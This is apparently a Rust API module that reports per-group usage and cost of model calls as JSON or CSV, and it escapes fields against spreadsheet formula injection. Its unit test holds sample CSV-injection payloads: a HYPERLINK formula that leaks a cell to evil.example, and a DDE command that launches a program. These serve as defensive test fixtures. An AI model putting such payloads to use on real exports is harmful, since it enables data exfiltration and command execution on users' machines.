//! What the calls of models have used.

use axum::response::Response;
use model::{AgentId, ThreadId, Timestamp};
use serde::{Deserialize, Serialize};
use store::{Store, StoreError, UsageGroup, UsageSum};
use utoipa::{IntoParams, ToSchema};

use crate::api::respond::{csv_no_store, json_no_store};
use crate::api::schemas;
use crate::app::request_context::RequestContext;
use crate::backend::Backend;
use crate::error::Problem;
use crate::extract::query::QueryParams;

/// Groups that one answer has.
const MOST_GROUPS: u32 = 10_000;

#[derive(Debug, Deserialize, IntoParams)]
#[serde(deny_unknown_fields)]
pub(crate) struct UsageQuery {
    /// Turns that ended then or later.
    #[param(value_type = schemas::TimestampSchema)]
    from: String,
    /// Turns that ended before; without it, until now.
    #[param(value_type = Option<schemas::TimestampSchema>)]
    to: Option<String>,
    /// Any of `day` (in UTC), `agent`, `thread`, `user`, `model`, `kind`, `finish_reason`, with commas between them; without it all is one sum.
    group_by: Option<String>,
    /// `json`, or `csv` with a line of names and a line for each group.
    #[param(default = "json", pattern = "^(json|csv)$")]
    format: Option<String>,
}

/// What the calls of models have used, in sums.
#[derive(Serialize, ToSchema)]
pub(crate) struct UsageReport {
    /// Of the costs; null: no prices are known here.
    #[schema(required)]
    currency: Option<String>,
    /// Of days before this one (in UTC) only sums are kept: their calls count as of the day's start, by the price of that time, and have no
    /// thread and no user. Null: there are none.
    #[schema(required)]
    details_from: Option<String>,
    usage: Vec<SummedUsage>,
}

/// The sum of one group. What was not asked for, or is not known, is null.
#[derive(Serialize, ToSchema)]
pub(crate) struct SummedUsage {
    #[schema(required)]
    day: Option<String>,
    #[schema(required)]
    agent_id: Option<String>,
    #[schema(required)]
    thread_id: Option<String>,
    /// `user_id` in the metadata of the thread.
    #[schema(required)]
    user_id: Option<String>,
    #[schema(required)]
    model: Option<String>,
    /// `turn`, `follow_up`, `summary` or `memory`.
    #[schema(required)]
    kind: Option<String>,
    /// Why the answers ended; null also where they failed.
    #[schema(required)]
    finish_reason: Option<String>,
    /// Calls of models.
    calls: i64,
    /// Those of answers that did not come to their end: there may have been more than are known.
    partial_calls: i64,
    /// Those that their provider has not counted, because the answer was stopped, failed or cut: their tokens are estimates.
    estimated_calls: i64,
    input_tokens: i64,
    output_tokens: i64,
    /// Part of the input, as far as it was said.
    cached_tokens: i64,
    /// Part of the output, as far as it was said.
    reasoning_tokens: i64,
    /// What the calls cost together by the operator's prices, as a decimal number; null: none of them has a price.
    #[schema(required)]
    cost: Option<String>,
    /// Calls of models without a price at their time, which `cost` leaves out.
    unpriced_calls: i64,
}

pub(crate) async fn get(
    ctx: RequestContext,
    QueryParams(query): QueryParams<UsageQuery>,
) -> Result<Response, Problem> {
    let invalid = |detail: String| Problem::bad_request("invalid_query", detail);
    let is_csv = match query.format.as_deref() {
        None | Some("json") => false,
        Some("csv") => true,
        Some(other) => return Err(invalid(format!("format: {other} is neither json nor csv"))),
    };
    let moment = |name: &str, text: &str| {
        wire::parse_rfc3339(text)
            .ok_or_else(|| invalid(format!("{name} must be a time like 2026-12-24T18:00:00Z")))
    };
    let from = moment("from", &query.from)?;
    let to = query.to.as_deref().map(|to| moment("to", to)).transpose()?;
    let to = to.map_or_else(|| ctx.backend().map(Backend::now), Ok)?;
    let names = query.group_by.as_deref().unwrap_or_default();
    let by = UsageGroup::list(names).map_err(|name| {
        invalid(format!("group_by: {name} is none of day, agent, thread, user, model, kind, finish_reason"))
    })?;
    let by = by.as_slice();
    let report = ctx.read(move |store| async move { UsageReport::read(&store.wide(), from, to, by).await });
    let report = report.await?.ok_or_else(|| invalid(UsageReport::TOO_MANY.to_owned()))?;
    Ok(if is_csv { csv_no_store(report.to_csv()) } else { json_no_store(report) })
}

impl UsageReport {
    /// Why there is no report.
    pub(crate) const TOO_MANY: &str = "these are more than 10000 groups; ask for a shorter time or for fewer";

    /// The sums of the calls of turns that ended from `from` on and before `to`; `None`: they are too many.
    ///
    /// # Errors
    /// The store cannot be read.
    pub(crate) async fn read(
        store: &Store,
        from: Timestamp,
        to: Timestamp,
        by: &[UsageGroup],
    ) -> Result<Option<Self>, StoreError> {
        let sums = store.usage(from, to, by, MOST_GROUPS + 1).await?;
        // After the sums: what is rolled up in between is said to be, and not the other way round.
        let details_from = store.usage_details_from().await?;
        let currency = store.prices().map(|prices| prices.currency.clone());
        let usage: Vec<SummedUsage> = sums.into_iter().map(SummedUsage::from).collect();
        Ok((usage.len() <= MOST_GROUPS as usize).then_some(Self { currency, details_from, usage }))
    }

    /// The same as lines of RFC 4180: a line of names, and one for each group, which ends with the currency and the first day with details.
    pub(crate) fn to_csv(&self) -> String {
        let names = [
            "day",
            "agent_id",
            "thread_id",
            "user_id",
            "model",
            "kind",
            "finish_reason",
            "calls",
            "partial_calls",
            "estimated_calls",
            "input_tokens",
            "output_tokens",
            "cached_tokens",
            "reasoning_tokens",
            "cost",
            "unpriced_calls",
            "currency",
            "details_from",
        ];
        let mut lines = names.join(",") + "\r\n";
        for usage in &self.usage {
            let of = [
                &usage.day,
                &usage.agent_id,
                &usage.thread_id,
                &usage.user_id,
                &usage.model,
                &usage.kind,
                &usage.finish_reason,
            ];
            let counts = [
                usage.calls,
                usage.partial_calls,
                usage.estimated_calls,
                usage.input_tokens,
                usage.output_tokens,
                usage.cached_tokens,
                usage.reasoning_tokens,
            ];
            let mut fields: Vec<String> = of.into_iter().map(|part| quoted(part.as_deref())).collect();
            fields.extend(counts.map(|count| count.to_string()));
            fields.push(usage.cost.clone().unwrap_or_default());
            fields.push(usage.unpriced_calls.to_string());
            fields.push(quoted(self.currency.as_deref()));
            fields.push(quoted(self.details_from.as_deref()));
            lines += &fields.join(",");
            lines += "\r\n";
        }
        lines
    }
}

/// A text as a field; what is not known is nothing, which differs from an empty text.
fn quoted(text: Option<&str>) -> String {
    text.map(|text| format!("\"{}{}\"", no_formula(text), text.replace('"', "\"\""))).unwrap_or_default()
}

/// The prefix that keeps a spreadsheet from reading a text as a formula: users and workflows write these texts. Some programs look at the first
/// character that is not white space, and accept the wide forms of the characters as well.
fn no_formula(text: &str) -> &'static str {
    let begins = |text: &str| {
        text.starts_with([
            '=', '+', '-', '@', '\t', '\r', '\n', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}',
        ])
    };
    if begins(text) || begins(text.trim_start()) { "'" } else { "" }
}

impl From<UsageSum> for SummedUsage {
    fn from(sum: UsageSum) -> Self {
        let [day, agent, thread, user_id, model, kind, finish_reason] = sum.of;
        // Clients know of no tenant.
        let agent_id = agent.map(|id| AgentId::parse(&id).map_or(id, |agent| agent.name().to_owned()));
        let thread_id = thread.map(|id| ThreadId::parse(&id).map_or(id, |thread| thread.name().to_owned()));
        Self {
            day,
            agent_id,
            thread_id,
            user_id,
            model,
            kind,
            finish_reason,
            calls: sum.calls,
            partial_calls: sum.partial_calls,
            estimated_calls: sum.estimated_calls,
            input_tokens: sum.input_tokens,
            output_tokens: sum.output_tokens,
            cached_tokens: sum.cached_tokens,
            reasoning_tokens: sum.reasoning_tokens,
            cost: sum.cost,
            unpriced_calls: sum.unpriced_calls,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn texts_of_strangers_are_no_formulas() {
        for text in [
            "=HYPERLINK(\"http://evil.example?\"&A1,\"x\")",
            "=cmd|' /C calc'!A0",
            "@SUM(1)",
            "+1+1",
            "-2+3",
            "\t=1",
            "\r=1",
            "\n=1",
            " =1",
            "\u{a0}=1",
            "\u{ff1d}1",
        ] {
            let field = quoted(Some(text));
            assert_eq!(field, format!("\"'{}\"", text.replace('"', "\"\"")), "{text}");
        }
        for text in ["ann", "a=b", "ann-monthly", "'quoted'", "", "2026-11-29", "東京"] {
            assert_eq!(quoted(Some(text)), format!("\"{text}\""));
        }
        assert_eq!(quoted(None), "");
    }
}
